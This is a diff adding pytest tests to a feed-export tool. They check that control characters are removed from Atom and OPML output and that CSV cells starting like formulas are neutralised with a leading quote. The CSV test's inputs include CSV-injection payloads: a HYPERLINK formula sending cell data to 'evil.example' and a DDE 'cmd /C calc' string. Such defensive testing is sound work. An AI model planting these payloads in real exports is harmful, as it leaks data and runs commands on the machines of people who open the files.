@@ -3513,6 +3513,58 @@ def test_atom_and_json_exports_say_who_decided_and_when(web, home):
     assert undecided.find(VESTI_ATOM + "decided_by") is None
 
 
+# Characters XML 1.0 forbids even escaped, each as a stranger's feed may carry it.
+NOT_XML = ("\x01", "\x0b", "\x1b", "\ufffe")
+
+
+@both
+def test_control_characters_in_titles_and_names_leave_atom_and_opml_well_formed(home):
+    feedparser = pytest.importorskip("feedparser")
+    write_sources(home / "sources.yaml", [rss_source(
+        "lwn", "https://lwn.net/headlines/rss", name="LWN\x01 \x1bnews\ufffe", direction="linux")])
+    w = Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret"))
+    try:
+        conn = w.db.conn()
+        for k, bad in enumerate(NOT_XML, 1):
+            desk_post(conn, lwn(w), k, title=f"Title{bad} {k}", status="approved")
+            conn.execute("UPDATE posts SET summary = ?, decided_by = ? WHERE id = ?",
+                         (f"Summary{bad}", f"olga{bad}", k))
+        web_atom = w.get("/approved.atom")[2]
+    finally:
+        w.close()
+    cli_atom = cli("export", "--format", "atom", cwd=home).stdout
+    for atom in (web_atom, cli_atom):
+        entries = atom_entries(atom)                        # xml.etree reads it
+        assert {e.find(ATOM + "title").text for e in entries.values()} == \
+            {f"Title {k}" for k in range(1, 5)}
+        assert {e.find(f"{ATOM}author/{ATOM}name").text for e in entries.values()} == {"LWN news"}
+        feed = feedparser.parse(atom.encode("utf-8"))
+        assert not feed.bozo, feed.bozo_exception
+        assert len(feed.entries) == 4
+    opml = cli("opml-export", cwd=home)
+    root = ElementTree.fromstring(opml.stdout.encode("utf-8"))
+    assert [o.get("text") for o in root.iter("outline") if o.get("xmlUrl")] == ["LWN news"]
+
+
+@both
+def test_csv_export_cells_that_a_spreadsheet_would_run_start_with_a_quote(home):
+    write_sources(home / "sources.yaml", [rss_source("lwn", "https://lwn.net/headlines/rss")])
+    _, db = vesti.open_intake(make_settings(home))
+    conn = db.conn()
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
+              "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "Plain title", "Prices; =1+1"]
+    for k, title in enumerate(titles, 1):
+        desk_post(conn, 1, k, title=title, status="approved")
+    conn.execute("UPDATE posts SET decided_by = '=cmd', summary = '-1' WHERE id = 1")
+    exported = vesti.csv_export(vesti.decided_posts(conn))      # what `export` writes
+    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(exported, newline=""))}
+    assert {k: rows[k]["title"] for k in rows} == {
+        k: title if k > 6 else "'" + title for k, title in enumerate(titles, 1)}
+    assert (rows[1]["decided_by"], rows[1]["summary"]) == ("'=cmd", "'-1")
+    assert rows[2]["relevance"] == "7"
+    assert '"Prices; =1+1"' in exported          # one cell where ; separates cells too
+
+
 def metric_samples(text):
     parser = pytest.importorskip("prometheus_client.parser")
     families = {f.name: f for f in parser.text_string_to_metric_families(text)}
